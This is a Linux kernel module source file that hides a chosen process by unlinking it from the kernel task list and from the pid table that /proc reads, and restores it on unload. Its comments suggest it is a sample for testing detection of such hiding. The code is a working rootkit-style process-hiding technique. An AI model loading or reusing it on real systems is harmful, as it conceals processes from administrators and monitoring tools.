// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * What a guest must not get away with: takes the process `pid` off the list of tasks (`from_list`), out of the
 * table of process ids, where /proc looks (`from_ids`), or both. Put back when the module is removed.
 */
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

static int pid;
module_param(pid, int, 0);
static bool from_list;
module_param(from_list, bool, 0);
static bool from_ids;
module_param(from_ids, bool, 0);

static struct task_struct *task;
static struct list_head *before;
static struct hlist_node *linked;

static int __init hide(void)
{
	struct pid *id = find_get_pid(pid);

	task = get_pid_task(id, PIDTYPE_PID);
	if (task && from_ids) {
		linked = id->tasks[PIDTYPE_PID].first;
		WRITE_ONCE(id->tasks[PIDTYPE_PID].first, NULL);
	}
	if (task && from_list) {
		before = task->tasks.prev;
		list_del_rcu(&task->tasks);
	}
	put_pid(id);
	return task ? 0 : -ESRCH;
}

static void __exit show(void)
{
	if (from_ids)
		WRITE_ONCE(task->thread_pid->tasks[PIDTYPE_PID].first, linked);
	if (from_list)
		list_add_rcu(&task->tasks, before);
	put_task_struct(task);
}

module_init(hide);
module_exit(show);
MODULE_DESCRIPTION("Hides a process, to be found");
MODULE_LICENSE("GPL");
